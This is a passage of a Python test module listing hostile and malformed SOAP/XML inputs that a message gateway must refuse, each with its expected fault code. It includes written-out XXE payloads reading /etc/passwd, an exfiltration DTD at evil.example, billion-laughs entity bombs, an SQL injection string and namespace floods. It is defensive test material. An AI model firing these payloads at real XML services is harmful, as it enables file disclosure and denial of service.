"""The bad-input corpus: hostile or broken documents for ``POST /ws``, by family.

Each :class:`Case` is built against a :class:`~tests.bad_input.world.World` (setup it
needs, such as a request awaiting an answer, happens while building) and names the
stable fault code the bus must answer with and a fragment of the description that
says which problem was found. Every case is a different hostile input; the comment or
docstring above it says what it tries.
"""

from __future__ import annotations

import copy
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from lxml import etree

from gateway.core.envelope import MessageMetadata, ParticipantRef
from gateway.crypto import devpki
from gateway.crypto.algorithms import RSA_SHA256
from gateway.testing.bus import (
    BIRTH,
    birth_request,
    birth_response,
    content,
    send_request_body,
    signed,
    signer_for,
    soap,
)
from gateway.xml import messages as m
from gateway.xml.namespaces import SMEV_BASIC, SMEV_TYPES, SOAP_ENV, qname
from gateway.xml.soap import SOAP12_ENV
from tests.bad_input.world import (
    World,
    b64,
    body_child,
    envelope,
    flip_base64,
    fresh_id,
    good_request,
    now,
    pending_request,
    replace_once,
    selector_body,
    serialize,
    signature_text,
    with_doctype,
)

T = f"{{{SMEV_TYPES}}}"
B = f"{{{SMEV_BASIC}}}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
MB = 1024 * 1024

Build = Callable[[World], Awaitable[bytes]]


@dataclass(frozen=True)
class Case:
    id: str
    family: str
    build: Build
    code: str
    fragment: str
    #: Costly to refuse (at or near a limit): worth watching ``/health`` while it runs.
    heavy: bool = False


CASES: list[Case] = []
FAMILIES = (
    "malformed",
    "dtd",
    "size",
    "soap",
    "schema",
    "signature",
    "certificate",
    "authorization",
    "replay",
    "encoding",
)


def case(family: str, code: str, fragment: str, *, heavy: bool = False) -> Callable[[Build], Build]:
    assert family in FAMILIES, family

    def register(build: Build) -> Build:
        CASES.append(Case(build.__name__, family, build, code, fragment, heavy))
        return build

    return register


def _business_name(business: etree._Element, name: str = "LastName") -> etree._Element:
    found = business.find(f".//{{{BIRTH}}}{name}")
    assert found is not None
    return found


# =========================================================================== malformed


@case("malformed", "invalid_content", "empty")
async def empty_body(w: World) -> bytes:
    return b""


@case("malformed", "invalid_content", "empty")
async def whitespace_only(w: World) -> bytes:
    return b" \r\n\t "


@case("malformed", "invalid_content", "not well-formed")
async def not_xml(w: World) -> bytes:
    return b"GET /ws HTTP/1.1\r\nHost: bus\r\n\r\n"


@case("malformed", "invalid_content", "not well-formed")
async def json_instead_of_xml(w: World) -> bytes:
    return b'{"SendRequest": {"MessageID": "x"}}'


@case("malformed", "invalid_content", "not well-formed")
async def truncated_xml(w: World) -> bytes:
    raw = good_request(w)
    return raw[: len(raw) // 2]


@case("malformed", "invalid_content", "not well-formed")
async def non_utf8_garbage(w: World) -> bytes:
    return b"\x80\x81\xfe\xc3\x28\xa0\xa1 <\x00\x9f garbage \xf0\x28\x8c\x28"


@case("malformed", "invalid_content", "not well-formed")
async def undeclared_entity_reference(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"&xxe;")


@case("malformed", "invalid_content", "not well-formed")
async def mismatched_end_tag(w: World) -> bytes:
    return replace_once(good_request(w), b"</soap:Body>", b"</soap:Header>")


@case("malformed", "invalid_content", "not well-formed")
async def root_never_closed(w: World) -> bytes:
    return replace_once(good_request(w), b"</soap:Envelope>", b"")


@case("malformed", "invalid_content", "not well-formed")
async def second_root_element(w: World) -> bytes:
    """A second envelope after the first: a parser that stops at the first root would
    accept what a signature library reading on might see differently."""
    raw = good_request(w)
    return raw + raw.split(b"\n", 1)[1]


@case("malformed", "invalid_content", "not well-formed")
async def text_after_root(w: World) -> bytes:
    return good_request(w) + b"trailing text"


@case("malformed", "invalid_content", "not well-formed")
async def unquoted_attribute(w: World) -> bytes:
    return replace_once(good_request(w), b'Id="SIGNED_BY_CONSUMER"', b"Id=SIGNED_BY_CONSUMER")


@case("malformed", "invalid_content", "not well-formed")
async def duplicate_attribute(w: World) -> bytes:
    """Two Id attributes on the signed element: which one a verifier reads is undefined."""
    return replace_once(
        good_request(w), b'Id="SIGNED_BY_CONSUMER"', b'Id="SIGNED_BY_CONSUMER" Id="OTHER"'
    )


@case("malformed", "invalid_content", "not well-formed")
async def less_than_in_attribute(w: World) -> bytes:
    return replace_once(good_request(w), b'Id="SIGNED_BY_CONSUMER"', b'Id="SIGNED<BY"')


@case("malformed", "invalid_content", "namespace")
async def undeclared_prefix(w: World) -> bytes:
    return replace_once(good_request(w), b"<soap:Header/>", b"<evil:Header/>")


@case("malformed", "invalid_content", "namespace")
async def relative_namespace_uri(w: World) -> bytes:
    """A namespace name that is no absolute URI: c14n of it is undefined."""
    return replace_once(
        good_request(w),
        b'xmlns="urn://smevbus/types/zags/birth-record/1.0"',
        b'xmlns="birth-record/1.0"',
    )


@case("malformed", "invalid_content", "not well-formed")
async def nul_character_reference(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir&#0;nova")


@case("malformed", "invalid_content", "not well-formed")
async def raw_control_character(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir\x01nova")


@case("malformed", "invalid_content", "not well-formed")
async def raw_nul_byte(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir\x00nova")


@case("malformed", "invalid_content", "not well-formed")
async def unterminated_comment(w: World) -> bytes:
    return replace_once(good_request(w), b"<soap:Header/>", b"<soap:Header/><!-- never ends")


@case("malformed", "invalid_content", "not well-formed")
async def unterminated_cdata(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"<![CDATA[never ends")


@case("malformed", "invalid_content", "not well-formed")
async def cdata_end_marker_in_text(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir]]>nova")


@case("malformed", "invalid_content", "not well-formed")
async def bare_ampersand(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smith & Sons")


@case("malformed", "invalid_content", "not well-formed")
async def xml_declaration_not_first(w: World) -> bytes:
    return b"  \n<!-- x -->" + good_request(w)


@case("malformed", "invalid_content", "not well-formed")
async def element_name_starts_with_digit(w: World) -> bytes:
    return replace_once(good_request(w), b"<soap:Header/>", b"<1Header/>")


@case("malformed", "invalid_content", "not well-formed")
async def doctype_inside_the_body(w: World) -> bytes:
    """A DOCTYPE where only content may be: a syntax error, never a DTD."""
    return replace_once(
        good_request(w),
        b"<soap:Header/>",
        b'<soap:Header/><!DOCTYPE x SYSTEM "file:///etc/passwd">',
    )


# ================================================================================= dtd
# DTDs and entities: refused before anything is expanded or fetched.


@case("dtd", "invalid_content", "DOCTYPE")
async def xxe_external_entity(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return with_doctype(good_request(w), doctype, b"&xxe;")


@case("dtd", "invalid_content", "DOCTYPE")
async def xxe_parameter_entity(w: World) -> bytes:
    doctype = (
        b'<!DOCTYPE soap:Envelope [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        b'<!ENTITY % dtd SYSTEM "http://evil.example/exfil.dtd"> %dtd; %file;]>'
    )
    return with_doctype(good_request(w), doctype)


@case("dtd", "invalid_content", "DOCTYPE")
async def xxe_in_attribute_value(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
    doc = with_doctype(good_request(w), doctype)
    return replace_once(doc, b'Id="SIGNED_BY_CONSUMER"', b'Id="&xxe;"')


def _laughs(levels: int, fan: int) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(fan)))
        for i in range(1, levels)
    ]
    return b"<!DOCTYPE soap:Envelope [" + b"".join(entities) + b"]>"


@case("dtd", "invalid_content", "DOCTYPE")
async def billion_laughs(w: World) -> bytes:
    return with_doctype(good_request(w), _laughs(10, 10), b"&lol9;")


@case("dtd", "invalid_content", "DOCTYPE")
async def quadratic_blowup(w: World) -> bytes:
    """One 100 kB entity referenced 20 000 times: no nesting for a depth check to see."""
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY a "' + b"x" * 100_000 + b'">]>'
    return with_doctype(good_request(w), doctype, b"&a;" * 20_000)


@case("dtd", "invalid_content", "DOCTYPE")
async def external_dtd(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope SYSTEM "http://evil.example/soap.dtd">'
    return with_doctype(good_request(w), doctype)


@case("dtd", "invalid_content", "DOCTYPE")
async def external_dtd_by_public_id(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope PUBLIC "-//EVIL//DTD X//EN" "http://evil.example/x.dtd">'
    return with_doctype(good_request(w), doctype)


@case("dtd", "invalid_content", "DOCTYPE")
async def bare_doctype(w: World) -> bytes:
    """No subset, no entity: still a DOCTYPE, refused as such (no DTD at all)."""
    return with_doctype(good_request(w), b"<!DOCTYPE soap:Envelope>")


@case("dtd", "invalid_content", "DOCTYPE")
async def empty_internal_subset(w: World) -> bytes:
    return with_doctype(good_request(w), b"<!DOCTYPE soap:Envelope []>")


@case("dtd", "invalid_content", "DOCTYPE")
async def attlist_default_injects_id(w: World) -> bytes:
    """A DTD default attribute would give an element an Id the sender never wrote."""
    doctype = (
        b"<!DOCTYPE soap:Envelope [<!ATTLIST soap:Body Id CDATA 'SIGNED_BY_CONSUMER'>"
        b"<!ATTLIST soap:Envelope xmlns:evil CDATA 'urn:evil'>]>"
    )
    return with_doctype(good_request(w), doctype)


@case("dtd", "invalid_content", "DOCTYPE")
async def predefined_entity_redefined(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY lt "&#38;#60;evil">]>'
    return with_doctype(good_request(w), doctype, b"&lt;")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_behind_a_comment(w: World) -> bytes:
    """``<!-- <a -->`` first once fooled a text match into missing the DOCTYPE after it."""
    doctype = b'<!-- <a --><!DOCTYPE soap:Envelope [<!ENTITY e "expanded">]>'
    return with_doctype(good_request(w), doctype, b"&e;")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_behind_a_processing_instruction(w: World) -> bytes:
    doctype = b'<?pi <!DOCTYPE?><!DOCTYPE soap:Envelope [<!ENTITY e "expanded">]>'
    return with_doctype(good_request(w), doctype, b"&e;")


# XML's DOCTYPE is upper case: libxml2 reads <!doctype as a broken tag, not a DOCTYPE.
@case("dtd", "invalid_content", "not well-formed")
async def doctype_after_comment_lowercase(w: World) -> bytes:
    doctype = b'<!-- innocent --><!doctype soap:Envelope SYSTEM "file:///dev/random">'
    return with_doctype(good_request(w), doctype)


def _entity_document(w: World) -> str:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY e "expanded">]>'
    raw = with_doctype(good_request(w), doctype, b"&e;")
    return raw.decode().split("\n", 1)[1]  # without the UTF-8 XML declaration


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_in_utf16le_with_bom(w: World) -> bytes:
    """A DOCTYPE no byte pattern for ``<!DOCTYPE`` in ASCII finds."""
    text = '<?xml version="1.0" encoding="UTF-16"?>\n' + _entity_document(w)
    return b"\xff\xfe" + text.encode("utf-16-le")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_in_utf16be_with_bom(w: World) -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n' + _entity_document(w)
    return b"\xfe\xff" + text.encode("utf-16-be")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_in_utf16le_without_bom(w: World) -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16LE"?>\n' + _entity_document(w)
    return text.encode("utf-16-le")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_after_utf8_bom(w: World) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY e "expanded">]>'
    return b"\xef\xbb\xbf" + with_doctype(good_request(w), doctype, b"&e;")


@case("dtd", "invalid_content", "DOCTYPE")
async def doctype_in_latin1_declared_document(w: World) -> bytes:
    doc = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + _entity_document(w)
    return doc.encode("latin-1", errors="xmlcharrefreplace")


@case("dtd", "schema_violation", "include")
async def xinclude_is_not_processed(w: World) -> bytes:
    business = birth_request()
    xi = etree.SubElement(business, "{http://www.w3.org/2001/XInclude}include")
    xi.set("href", "file:///etc/passwd")
    xi.set("parse", "text")
    return good_request(w, business=business)


# ============================================================================== size
# Size and shape limits: each refused by the parser's counts, before XSD or signature.


def _declarations(count: int, prefix: str = "p") -> bytes:
    return b"".join(b' xmlns:%s%d="urn:n%d"' % (prefix.encode(), i, i) for i in range(count))


def _on_envelope(raw: bytes, extra: bytes) -> bytes:
    return replace_once(raw, b"<soap:Envelope ", b"<soap:Envelope" + extra + b" ")


@case("size", "message_too_large", "limit is 5242880 bytes")
async def oversize_document(w: World) -> bytes:
    raw = good_request(w)
    padding = b"<!--" + b"x" * (5 * MB) + b"-->"
    return raw + padding


@case("size", "message_too_large", "limit is 5242880 bytes")
async def one_byte_over_the_limit(w: World) -> bytes:
    raw = good_request(w)
    return raw + b" " * (5 * MB + 1 - len(raw))


@case("size", "invalid_content", "in scope", heavy=True)
async def namespaces_in_scope_on_unsigned_envelope(w: World) -> bytes:
    """Issue 11's stall: 200 declarations on the Envelope of an unsigned request, which
    every element below inherits (libxml2 copies them at each step of XSD validation)."""
    return _on_envelope(soap(send_request_body(None, message_id=fresh_id(w))), _declarations(200))


@case("size", "invalid_content", "between two start tags", heavy=True)
async def namespaces_on_the_envelope_at_the_size_limit(w: World) -> bytes:
    """The worst case of issue 11: ~200 000 declarations, just under 5 MB (one start tag
    that long passes the limit on bytes between two start tags first)."""
    raw = good_request(w)
    count = (5 * MB - len(raw)) // len(b' xmlns:p199999="urn:n199999"')
    return _on_envelope(raw, _declarations(count))


@case("size", "invalid_content", "more than 1024 namespaces", heavy=True)
async def namespaces_on_the_envelope_under_the_run_limit(w: World) -> bytes:
    """~35 000 declarations in a start tag just under 1 MB: the document count refuses."""
    return _on_envelope(good_request(w), _declarations(35_000))


@case("size", "invalid_content", "more than 1024 namespaces", heavy=True)
async def namespaces_one_per_sibling_element(w: World) -> bytes:
    """1 100 declarations, never more than one in scope: the document total counts."""
    siblings = b"".join(b'<x:e%d xmlns:x="urn:s%d"/>' % (i, i) for i in range(1100))
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header>" + siblings + b"</soap:Header>"
    )


@case("size", "invalid_content", "in scope", heavy=True)
async def namespaces_on_the_signed_element(w: World) -> bytes:
    """Declarations on the signed element itself, signed over: the signature is
    genuine, the shape is not (issue 11: accepted after 15.7 s with 50 000)."""
    body = send_request_body(None, message_id=fresh_id(w))
    data = body.find(f"{T}SenderProvidedRequestData")
    assert data is not None
    holder = etree.Element(data.tag, nsmap={f"q{i}": f"urn:q{i}" for i in range(200)})
    for name, value in data.attrib.items():
        holder.set(name, value)
    holder.extend(list(data))
    body.replace(data, holder)
    return soap(signed(body, w.pki.signer("PORTAL")))


@case("size", "invalid_content", "in scope")
async def namespaces_accumulating_down_a_chain(w: World) -> bytes:
    """Three declarations per level, 50 levels: few per element, many in scope."""
    inner = b""
    for level in reversed(range(50)):
        decls = b"".join(b' xmlns:c%d_%d="urn:c%d.%d"' % (level, k, level, k) for k in range(3))
        inner = b"<n%d%s>%s</n%d>" % (level, decls, inner, level)
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header>" + inner + b"</soap:Header>"
    )


@case("size", "invalid_content", "attributes")
async def too_many_attributes(w: World) -> bytes:
    attrs = b"".join(b' a%d="v"' % i for i in range(65))
    return replace_once(good_request(w), b"<soap:Header/>", b"<soap:Header" + attrs + b"/>")


@case("size", "invalid_content", "between two start tags", heavy=True)
async def attributes_at_the_size_limit(w: World) -> bytes:
    """One start tag of ~500 000 attributes: refused before libxml2 parses them all."""
    raw = good_request(w)
    count = (5 * MB - len(raw)) // len(b' a499999="v"')
    attrs = b"".join(b' a%d="v"' % i for i in range(count))
    return replace_once(raw, b"<soap:Header/>", b"<soap:Header" + attrs + b"/>")


@case("size", "invalid_content", "attributes", heavy=True)
async def many_attributes_on_many_elements(w: World) -> bytes:
    """65 attributes on each of 2 000 elements (the first one is enough to refuse)."""
    attrs = b"".join(b' a%d="v"' % i for i in range(65))
    items = b"".join(b"<i" + attrs + b"/>" for _ in range(2000))
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header>" + items + b"</soap:Header>"
    )


@case("size", "invalid_content", "elements", heavy=True)
async def too_many_elements(w: World) -> bytes:
    items = b"<i/>" * 50_001
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header>" + items + b"</soap:Header>"
    )


@case("size", "invalid_content", "elements", heavy=True)
async def elements_at_the_size_limit(w: World) -> bytes:
    raw = good_request(w)
    items = b"<i/>" * ((5 * MB - len(raw) - 40) // 4)
    return replace_once(raw, b"<soap:Header/>", b"<soap:Header>" + items + b"</soap:Header>")


@case("size", "invalid_content", "deeper than 64")
async def nesting_too_deep(w: World) -> bytes:
    business = birth_request()
    holder = business
    for _ in range(80):
        holder = etree.SubElement(holder, f"{{{BIRTH}}}Nested")
    return good_request(w, business=business)


@case("size", "invalid_content", "deeper than 64")
async def nesting_one_level_too_deep_in_the_header(w: World) -> bytes:
    inner = b"<d/>"
    for _ in range(64):
        inner = b"<d>" + inner + b"</d>"
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header>" + inner + b"</soap:Header>"
    )


@case("size", "invalid_content", "not well-formed", heavy=True)
async def nesting_at_the_size_limit(w: World) -> bytes:
    """~600 000 unclosed levels: libxml2's own depth limit (256) stops it first."""
    raw = good_request(w)
    depth = (5 * MB - len(raw)) // 8
    return replace_once(
        raw, b"<soap:Header/>", b"<soap:Header>" + b"<d>" * depth + b"</soap:Header>"
    )


@case("size", "invalid_content", "between two start tags", heavy=True)
async def text_over_the_run_limit(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"x" * (MB + 64 * 1024))


@case("size", "invalid_content", "between two start tags", heavy=True)
async def text_at_the_size_limit(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, "Смирнова".encode(), b"x" * (5 * MB - len(raw) - 100))


@case("size", "invalid_content", "between two start tags", heavy=True)
async def comment_over_the_run_limit(w: World) -> bytes:
    """Comments are dropped, but only after being read: they count as text."""
    return replace_once(
        good_request(w),
        b"<soap:Header/>",
        b"<soap:Header><!--" + b"c" * (2 * MB) + b"--></soap:Header>",
    )


@case("size", "invalid_content", "between two start tags", heavy=True)
async def attribute_value_over_the_run_limit(w: World) -> bytes:
    return replace_once(
        good_request(w), b"<soap:Header/>", b'<soap:Header a="' + b"v" * (2 * MB) + b'"/>'
    )


@case("size", "invalid_content", "between two start tags", heavy=True)
async def element_name_over_the_run_limit(w: World) -> bytes:
    name = b"n" * (2 * MB)
    return replace_once(
        good_request(w), b"<soap:Header/>", b"<soap:Header><" + name + b"/></soap:Header>"
    )


@case("size", "invalid_content", "between two start tags", heavy=True)
async def cdata_over_the_run_limit(w: World) -> bytes:
    return replace_once(
        good_request(w), "Смирнова".encode(), b"<![CDATA[" + b"x" * (2 * MB) + b"]]>"
    )


@case("size", "schema_violation", "LastName", heavy=True)
async def long_texts_each_under_the_limit(w: World) -> bytes:
    """Four texts of 1 MB less a little: every parser limit holds, the XSD refuses."""
    business = birth_request()
    for name in ("LastName", "FirstName", "MiddleName"):
        _business_name(business, name).text = "я" * (MB // 2 - 1024)
    return good_request(w, business=business)


# ============================================================================== soap


@case("soap", "invalid_content", "SOAP 1.2")
async def soap12_envelope(w: World) -> bytes:
    raw = good_request(w)
    return raw.replace(SOAP_ENV.encode(), SOAP12_ENV.encode())


@case("soap", "invalid_content", "expected a SOAP 1.1 <Envelope>")
async def not_an_envelope_root(w: World) -> bytes:
    return serialize(send_request_body(w.pki.signer("PORTAL"), message_id=fresh_id(w)))


@case("soap", "invalid_content", "expected a SOAP 1.1 <Envelope>")
async def envelope_in_no_namespace(w: World) -> bytes:
    raw = replace_once(good_request(w), b' xmlns:soap="' + SOAP_ENV.encode() + b'"', b"")
    return raw.replace(b"soap:", b"")


@case("soap", "invalid_content", "expected a SOAP 1.1 <Envelope>")
async def envelope_in_a_lookalike_namespace(w: World) -> bytes:
    return good_request(w).replace(SOAP_ENV.encode(), SOAP_ENV.encode() + b"/")


@case("soap", "invalid_content", "Header followed by one Body")
async def envelope_without_body(w: World) -> bytes:
    root = envelope(good_request(w))
    body = root.find(qname(SOAP_ENV, "Body"))
    assert body is not None
    root.remove(body)
    return serialize(root)


@case("soap", "invalid_content", "Header followed by one Body")
async def body_before_header(w: World) -> bytes:
    root = envelope(good_request(w))
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    root.remove(header)
    root.append(header)
    return serialize(root)


@case("soap", "invalid_content", "Header followed by one Body")
async def body_in_another_namespace(w: World) -> bytes:
    root = envelope(good_request(w))
    body = root.find(qname(SOAP_ENV, "Body"))
    assert body is not None
    body.tag = "{urn:evil}Body"
    return serialize(root)


@case("soap", "invalid_content", "Header followed by one Body")
async def element_after_body(w: World) -> bytes:
    root = envelope(good_request(w))
    etree.SubElement(root, "{urn:evil}Trailer").text = "x"
    return serialize(root)


@case("soap", "invalid_content", "exactly one element, found 2")
async def body_with_two_elements(w: World) -> bytes:
    root = envelope(good_request(w))
    body = root.find(qname(SOAP_ENV, "Body"))
    assert body is not None
    body.append(send_request_body(w.pki.signer("PORTAL"), message_id=fresh_id(w)))
    return serialize(root)


@case("soap", "invalid_content", "exactly one element, found 0")
async def empty_soap_body(w: World) -> bytes:
    return b'<soap:Envelope xmlns:soap="' + SOAP_ENV.encode() + b'"><soap:Body/></soap:Envelope>'


@case("soap", "invalid_content", "exactly one element, found 0")
async def body_with_text_only(w: World) -> bytes:
    return (
        b'<soap:Envelope xmlns:soap="' + SOAP_ENV.encode() + b'"><soap:Body>SendRequest'
        b"</soap:Body></soap:Envelope>"
    )


@case("soap", "invalid_content", "Header followed by one Body")
async def two_bodies(w: World) -> bytes:
    root = envelope(good_request(w))
    root.append(copy.deepcopy(root[1]))
    return serialize(root)


@case("soap", "invalid_content", "not a message-exchange operation")
async def operation_nested_in_a_wrapper(w: World) -> bytes:
    root = envelope(good_request(w))
    operation = body_child(root)
    body = operation.getparent()
    assert body is not None
    wrapper = etree.SubElement(body, "{urn:evil}Wrapper")
    wrapper.append(operation)
    return serialize(root)


@case("soap", "invalid_content", "not a message-exchange operation")
async def unknown_operation(w: World) -> bytes:
    root = envelope(good_request(w))
    body_child(root).tag = qname(SMEV_TYPES, "DeleteAllMessagesRequest")
    return serialize(root)


@case("soap", "invalid_content", "not a message-exchange operation")
async def operation_in_foreign_namespace(w: World) -> bytes:
    root = envelope(good_request(w))
    body_child(root).tag = qname("urn:evil", "SendRequestRequest")
    return serialize(root)


@case("soap", "invalid_content", "is a reply")
async def reply_element_sent_as_request(w: World) -> bytes:
    meta = MessageMetadata(
        message_id=fresh_id(w),
        message_type=BIRTH,
        sender=ParticipantRef(mnemonic="PORTAL"),
        sending_timestamp=now(w),
    )
    return soap(m.build_send_request_response(meta))


@case("soap", "invalid_content", "holds a Fault")
async def fault_sent_as_request(w: World) -> bytes:
    return (
        b'<soap:Envelope xmlns:soap="' + SOAP_ENV.encode() + b'"><soap:Body><soap:Fault>'
        b"<faultcode>soap:Client</faultcode><faultstring>x</faultstring>"
        b"</soap:Fault></soap:Body></soap:Envelope>"
    )


@case("soap", "invalid_content", "mustUnderstand")
async def must_understand_header(w: World) -> bytes:
    root = envelope(good_request(w))
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    block = etree.SubElement(header, "{urn:wsse}Security")
    block.set(qname(SOAP_ENV, "mustUnderstand"), "1")
    return serialize(root)


@case("soap", "invalid_content", "mustUnderstand")
async def must_understand_true_header(w: World) -> bytes:
    root = envelope(good_request(w))
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    block = etree.SubElement(header, "{urn:evil}RouteTo")
    block.set(qname(SOAP_ENV, "mustUnderstand"), "true")
    block.text = "FNS"
    return serialize(root)


# ============================================================================ schema
# The bus schema (the envelope's own XSD), each operation, then business content.


def _signed_raw(w: World, body: etree._Element, mnemonic: str = "PORTAL") -> bytes:
    return soap(signed(body, w.pki.signer(mnemonic)))


def _request_data(body: etree._Element) -> etree._Element:
    data = body.find(f"{T}SenderProvidedRequestData")
    assert data is not None
    return data


@case("schema", "schema_violation", "SenderProvidedRequestData")
async def wrong_namespace_on_request_data(w: World) -> bytes:
    root = envelope(good_request(w))
    data = body_child(root).find(f"{T}SenderProvidedRequestData")
    assert data is not None
    data.tag = qname(
        "urn://x-artefacts-smev-gov-ru/services/message-exchange/types/1.0",
        "SenderProvidedRequestData",
    )
    return serialize(root)


@case("schema", "schema_violation", "MessageID")
async def missing_message_id(w: World) -> bytes:
    body = send_request_body(None, message_id=fresh_id(w))
    data = _request_data(body)
    message_id = data.find(f"{T}MessageID")
    assert message_id is not None
    data.remove(message_id)
    return _signed_raw(w, body)


@case("schema", "schema_violation", "MessageID")
async def message_id_not_a_uuid(w: World) -> bytes:
    body = send_request_body(None, message_id=fresh_id(w))
    message_id = _request_data(body).find(f"{T}MessageID")
    assert message_id is not None
    message_id.text = "'; DROP TABLE messages; --"
    return _signed_raw(w, body)


@case("schema", "schema_violation", "MessagePrimaryContent")
async def request_without_content(w: World) -> bytes:
    body = send_request_body(None, message_id=fresh_id(w))
    data = _request_data(body)
    primary = data.find(f"{B}MessagePrimaryContent")
    assert primary is not None
    data.remove(primary)
    return _signed_raw(w, body)


@case("schema", "schema_violation", "MessagePrimaryContent")
async def two_primary_contents(w: World) -> bytes:
    """Which content is "the" request if there are two? Refused by the bus schema."""
    body = send_request_body(None, message_id=fresh_id(w))
    data = _request_data(body)
    primary = data.find(f"{B}MessagePrimaryContent")
    assert primary is not None
    other = copy.deepcopy(primary)
    _business_name(other[0]).text = "Петрова"
    primary.addnext(other)
    return _signed_raw(w, body)


@case("schema", "schema_violation", "RouteTo")
async def unknown_element_in_request_data(w: World) -> bytes:
    body = send_request_body(None, message_id=fresh_id(w))
    data = _request_data(body)
    route = etree.Element(f"{T}RouteTo")
    route.text = "FNS"
    data.insert(1, route)
    return _signed_raw(w, body)


@case("schema", "schema_violation", "CallerInformationSystemSignature")
async def signature_container_without_signature(w: World) -> bytes:
    body = send_request_body(None, message_id=fresh_id(w))
    etree.SubElement(body, f"{T}CallerInformationSystemSignature")
    return soap(body)


@case("schema", "schema_violation", "Timestamp")
async def selector_without_timestamp(w: World) -> bytes:
    body = selector_body(w, "GetRequest", timedelta(0))
    stamp = body.find(f".//{B}Timestamp")
    assert stamp is not None
    stamp.getparent().remove(stamp)  # type: ignore[union-attr]
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "Timestamp")
async def selector_timestamp_not_a_date(w: World) -> bytes:
    body = selector_body(w, "GetRequest", timedelta(0))
    stamp = body.find(f".//{B}Timestamp")
    assert stamp is not None
    stamp.text = "yesterday"
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "MessageTypeSelector")
async def get_response_without_selector(w: World) -> bytes:
    raw = _signed_raw(w, selector_body(w, "GetResponse", timedelta(0)))
    return raw.replace(b"basic:MessageTypeSelector", b"basic:TypeSelector")


@case("schema", "schema_violation", "Payload")
async def selector_with_unknown_child(w: World) -> bytes:
    body = selector_body(w, "GetRequest", timedelta(0))
    selector = body.find(f"{B}MessageTypeSelector")
    assert selector is not None
    etree.SubElement(selector, f"{B}Payload").text = "x"
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "AckTargetMessage")
async def ack_target_not_a_uuid(w: World) -> bytes:
    body = m.build_ack(fresh_id(w))
    target = body.find(f"{B}AckTargetMessage")
    assert target is not None
    target.text = "all"
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "accepted")
async def ack_accepted_not_a_boolean(w: World) -> bytes:
    body = m.build_ack(fresh_id(w))
    target = body.find(f"{B}AckTargetMessage")
    assert target is not None
    target.set("accepted", "maybe")
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "Timestamp")
async def get_status_timestamp_not_a_date(w: World) -> bytes:
    body = m.build_get_status(now(w))
    timestamp = body.find(f"{B}Timestamp")
    assert timestamp is not None
    timestamp.text = "*"
    return _signed_raw(w, body)


@case("schema", "schema_violation", "To")
async def response_without_to(w: World) -> bytes:
    body = m.build_send_response(fresh_id(w), "x", content=birth_response())
    to = body.find(f"{T}SenderProvidedResponseData/{T}To")
    assert to is not None
    to.getparent().remove(to)  # type: ignore[union-attr]
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "SenderProvidedResponseData")
async def response_with_nothing_in_it(w: World) -> bytes:
    body = m.build_send_response(fresh_id(w), "x", content=birth_response())
    primary = body.find(f"{T}SenderProvidedResponseData/{B}MessagePrimaryContent")
    assert primary is not None
    primary.getparent().remove(primary)  # type: ignore[union-attr]
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "RequestRejected")
async def response_with_content_and_rejection(w: World) -> bytes:
    to = await pending_request(w)
    body = m.build_send_response(fresh_id(w), to, content=birth_response())
    data = body.find(f"{T}SenderProvidedResponseData")
    assert data is not None
    rejected = etree.SubElement(data, f"{T}RequestRejected")
    etree.SubElement(rejected, f"{T}RejectionReasonCode").text = "NO_DATA"
    etree.SubElement(rejected, f"{T}RejectionReasonDescription").text = "none"
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "asked for")
